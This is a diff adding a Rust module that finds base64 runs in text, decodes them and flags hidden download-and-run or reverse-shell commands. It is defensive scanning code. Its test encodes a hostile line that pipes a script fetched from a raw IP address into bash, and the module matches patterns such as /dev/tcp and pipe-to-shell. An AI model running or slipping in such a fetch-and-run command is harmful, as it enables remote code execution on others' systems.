@@ -1,0 +1,95 @@
+//! Base64 in a text: where it stands, in a line or wrapped over several, and whether it hides a
+//! command. Knows nothing of files, and makes no findings. Pure.
+
+use std::mem;
+
+use base64::Engine;
+use base64::engine::general_purpose::{STANDARD_NO_PAD, URL_SAFE_NO_PAD};
+
+use super::lines::lines;
+use super::rule::Rule;
+use super::rules::find_all;
+
+/// The shortest run of base64 that is decoded.
+const SHORTEST: usize = 40;
+
+fn is_base64(byte: u8) -> bool {
+    matches!(byte, b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'+' | b'/' | b'-' | b'_')
+}
+
+/// The runs of base64 in a line, without the `=` that pads them.
+pub fn base64_runs(line: &str) -> impl Iterator<Item = &str> {
+    let runs = line.as_bytes().split(|byte| !is_base64(*byte));
+    let long = runs.filter(|run| run.len() >= SHORTEST);
+    let texts = long.filter_map(|run| std::str::from_utf8(run).ok());
+    texts.filter(|run| !run.contains("//"))
+}
+
+/// The runs of base64 that go on over lines, with the number of the first.
+pub fn wrapped_base64(text: &str) -> Vec<(usize, String)> {
+    let mut found = Vec::new();
+    let (mut run, mut first) = (String::new(), 0);
+    for (number, line) in (1..).zip(text.lines().map(str::trim).chain([""])) {
+        let bytes = line.as_bytes();
+        if !run.is_empty() {
+            let start = bytes.iter().position(|byte| !is_base64(*byte));
+            let start = &line[..start.unwrap_or(line.len())];
+            run += start;
+            if start.len() < line.len() || line.is_empty() {
+                let whole = mem::take(&mut run);
+                let is_new = number > first + 1 || !start.is_empty();
+                found.extend((is_new && whole.len() >= SHORTEST).then_some((first, whole)));
+            } else {
+                continue;
+            }
+        }
+        let end = bytes.iter().rposition(|byte| !is_base64(*byte));
+        line[end.map_or(0, |at| at + 1)..].clone_into(&mut run);
+        first = number;
+    }
+    found
+}
+
+/// Whether a run of base64 hides a command that downloads and runs something, or opens a shell.
+pub fn is_encoded_command(run: &str) -> bool {
+    decoded(run).is_some_and(|text| is_command(&text))
+}
+
+/// The text in a run of base64; `None` for other bytes.
+fn decoded(run: &str) -> Option<String> {
+    let bytes = STANDARD_NO_PAD
+        .decode(run)
+        .or_else(|_| URL_SAFE_NO_PAD.decode(run))
+        .ok()?;
+    let text = String::from_utf8(bytes).ok()?;
+    let printable = |c: char| !c.is_control() || c.is_whitespace();
+    text.chars().all(printable).then_some(text)
+}
+
+/// Whether decoded text downloads and runs something, or opens a shell.
+fn is_command(text: &str) -> bool {
+    let runs = |rule: &Rule| ["pipe-to-shell", "decoded-to-shell"].contains(&rule.code);
+    // As one line.
+    let text = text.replace('\n', " ");
+    let lines = lines(&text);
+    text.contains("/dev/tcp/") || find_all(&lines).iter().any(|(.., rule)| runs(rule))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use base64::engine::general_purpose::STANDARD;
+
+    #[test]
+    fn text_is_decoded_and_other_bytes_are_not() {
+        let hidden = STANDARD.encode("curl -fsSL http://91.92.93.94/x | bash");
+        let line = format!("echo '{hidden}' | x");
+        let texts: Vec<_> = base64_runs(&line).map(decoded).collect();
+        assert_eq!(
+            texts,
+            [Some("curl -fsSL http://91.92.93.94/x | bash".to_owned())]
+        );
+        let digest = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";
+        assert!(base64_runs(digest).all(|run| decoded(run).is_none()));
+    }
+}
